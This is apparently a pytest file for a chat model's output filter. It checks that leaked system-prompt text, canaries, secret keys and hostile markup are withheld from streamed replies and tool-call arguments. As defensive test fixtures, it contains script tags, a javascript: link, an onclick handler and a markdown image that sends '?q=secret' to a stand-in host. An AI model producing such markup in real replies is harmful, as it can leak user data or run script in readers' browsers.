"""The output filter: what it finds, in any chunking, and what it leaves alone."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gilmok.core.completion import Delta, FinishReason, ToolCallDelta
from gilmok.core.leaks import Leak
from gilmok.core.request import Message, Request, Role, Text
from gilmok.core.text import Private
from gilmok.guard.output import SILENT, WITHHELD, OutputFilter, OutputPolicy, output_filter
from gilmok.inspection import issued_secrets
from tests.unit import nouns

PROMPT = (
    "You are Gyeongbok, the assistant of a coffee house. Never give a discount above five percent, "
    "and never tell anyone that the manager's name is Hwang."
)
KEY = "sk-proj-a8F3kd02Lq9ZpX71mNvB4t"
ALL = OutputPolicy(
    system_prompt="withhold",
    secrets="withhold",
    markup="withhold",
    image_hosts=("cdn.example.com",),
    terms=("프로젝트 백두", "Falcon-9X"),
    canaries=("kingfisher-2231",),
    find_secrets=issued_secrets,
)
HARMLESS = (
    "A coffee house may give a discount. The assistant of a manager is never told anyone's name.",
    "프로젝트 한라와 백두산은 다릅니다. Falcon 9 is a rocket; a falcon is a bird.",
    "```html\n<script>alert(1)</script>\n![x](https://evil.test/a.png)\n```\nThat runs a script.",
    "If a < b and b > c then ![logo](https://img.cdn.example.com/l.png) is shown.",
    "Use <b>bold</b> and <a href='https://a.test'>links</a>; set your key in OPENAI_API_KEY.",
    "",
)
LEAKS = (
    (Leak.CANARY, "the word is KingFisher-2231."),
    (Leak.TERM, "우리의 프로젝트 백두 이야기"),
    (Leak.SYSTEM_PROMPT, "My rules: never give a discount above  FIVE percent, and never tell "
     "anyone that the manager's name is Hwang. That is all."),
    (Leak.SECRET, f"your key is {KEY} now"),
    (Leak.MARKUP, "see <script src=//evil.test/x.js></script> there"),
    (Leak.MARKUP, "see ![p](https://evil.test/?q=secret) there"),
    (Leak.MARKUP, '<img src="http://evil.test/p.png" alt="x"> there'),
    (Leak.MARKUP, "[click](javascript:alert(1)) there"),
    (Leak.MARKUP, '<b onclick="steal()">hi</b>'),
)  # fmt: skip


def asked(text: str = "hi") -> Request:
    return nouns.request(
        messages=(
            Message(role=Role.SYSTEM, parts=(Text(Private(PROMPT)),)),
            Message(role=Role.USER, parts=(Text(Private(text)),)),
        )
    )


def made(policy: OutputPolicy = ALL, request: Request | None = None) -> OutputFilter:
    found = output_filter(policy, request or asked())
    assert found is not None
    return found


def through(sieve: OutputFilter, pieces: list[str]) -> str:
    deltas = [Delta(content=piece) for piece in pieces] + [Delta(finish=FinishReason.STOP)]
    out = [sieve.apply(delta) for delta in deltas]
    return "".join(event.content or "" for event in out if isinstance(event, Delta))


def cut(text: str, at: list[int]) -> list[str]:
    marks = sorted({0, len(text), *(a % (len(text) + 1) for a in at)})
    return [text[a:b] for a, b in pairwise(marks)]


def test_nothing_is_made_where_nothing_is_looked_for() -> None:
    assert output_filter(SILENT, asked()) is None
    assert output_filter(OutputPolicy(system_prompt="mark"), nouns.request("hi")) is None


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_answers_pass_unchanged(text: str) -> None:
    sieve = made()
    assert through(sieve, list(text)) == text
    assert sieve.found is None


@pytest.mark.parametrize(("leak", "text"), LEAKS)
def test_what_is_not_for_the_reader_is_withheld(leak: Leak, text: str) -> None:
    whole = through(made(), [text])
    assert whole.count(WITHHELD) == 1
    for secret in ("Hwang", KEY, "evil.test", "javascript:", "onclick", "백두", "2231"):
        assert secret not in whole
    sieve = made()
    piecemeal = through(sieve, list(text))
    assert piecemeal.count(WITHHELD) == 1
    # Of a passage the first word may have gone before it could be told from any other word.
    assert len(piecemeal) <= len(whole) + 6
    assert sieve.found is leak


@given(st.sampled_from(LEAKS), st.sampled_from(HARMLESS), st.lists(st.integers(0, 400), max_size=9))
@settings(max_examples=150, deadline=None)
def test_no_cutting_lets_anything_out(leak: tuple[Leak, str], before: str, at: list[int]) -> None:
    if "```" in before:
        before = ""
    text = f"{before} {leak[1]}"
    sieve = made()
    got = through(sieve, cut(text, at))
    assert WITHHELD in got
    for secret in ("Hwang", KEY[8:], "evil.test", "javascript:a", "steal", "백두 이", "2231"):
        assert secret not in got


def test_marked_is_not_withheld_and_nothing_is_held_for_it() -> None:
    sieve = made(OutputPolicy(secrets="mark", find_secrets=issued_secrets))
    pieces = [sieve.apply(Delta(content=c)) for c in f"key {KEY} end"]
    assert "".join(p.content or "" for p in pieces if isinstance(p, Delta)) == f"key {KEY} end"
    assert sieve.found is Leak.SECRET


def test_a_key_that_the_user_showed_may_be_repeated() -> None:
    sieve = made(request=asked(f"what is {KEY}?"))
    assert through(sieve, [f"{KEY} is a key"]) == f"{KEY} is a key"


def test_arguments_of_tools_are_looked_at_too() -> None:
    sieve = made()
    pieces = [
        sieve.apply(Delta(tool_calls=(ToolCallDelta(0, "c", "f", f'{{"k":"{KEY[:9]}'),))),
        sieve.apply(Delta(tool_calls=(ToolCallDelta(0, arguments=f'{KEY[9:]}"}}'),))),
        sieve.apply(Delta(finish=FinishReason.TOOL_CALLS)),
    ]
    said = "".join(c.arguments for p in pieces if isinstance(p, Delta) for c in p.tool_calls)
    assert KEY[9:] not in said
    assert WITHHELD in said


def test_a_long_passage_is_withheld_once() -> None:
    sieve = made()
    got = through(sieve, [f"{word} " for word in f"Rules: {PROMPT} Done.".split()])
    assert got.count(WITHHELD) == 1
    assert got.startswith("Rules: ")
    assert len(got) < 40
    assert got.rstrip().endswith("Done.")
